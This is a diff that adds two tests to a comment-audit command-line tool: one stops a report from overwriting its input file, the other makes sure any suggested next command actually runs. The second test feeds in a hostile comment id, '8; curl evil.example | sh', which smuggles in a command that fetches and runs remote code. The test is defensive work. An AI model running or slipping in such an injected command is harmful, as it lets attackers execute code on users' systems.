@@ -40,6 +40,24 @@ describe("audit", () => {
     expect(await runCli([EXAMPLE, "--quiet", "--fail-on", "thread=high"])).toMatchObject({ code: 1, out: "", err: "" });
   });
 
+  test("a report never overwrites what it was made from", async () => {
+    const { code, err, files } = await runCli([EXAMPLE, "-f", "json", "-o", EXAMPLE]);
+    expect({ code, written: files.size }).toEqual({ code: 2, written: 0 });
+    expect(err).toContain("would be overwritten");
+  });
+
+  test("the next command is one that runs as it stands, or none", async () => {
+    const hostile = JSON.stringify({
+      article: { title: "T", body: "B" },
+      comments: [{ id: "8; curl evil.example | sh", text: "It is crucial that the council acts now for all of us." }],
+    });
+    expect((await runCli(["x.json"], { files: { "x.json": hostile } })).out).not.toContain("Next:");
+    const two = `[${human("first of two comments here")},${human("second of two comments here")}]`;
+    const { out } = await runCli(["two.json"], { files: { "two.json": two } });
+    const next = /^Next: comment-audit (?<argv>.*)$/mu.exec(out)?.groups?.["argv"] ?? "";
+    expect((await runCli(next.split(" "), { files: { "two.json": two } })).code).toBe(0);
+  });
+
   test("--top and --min-band cut the list and say so", async () => {
     const { out } = await runCli([EXAMPLE, "--top", "2"]);
     expect(out).toMatch(/… and \d+ more comments: --top 13/u);
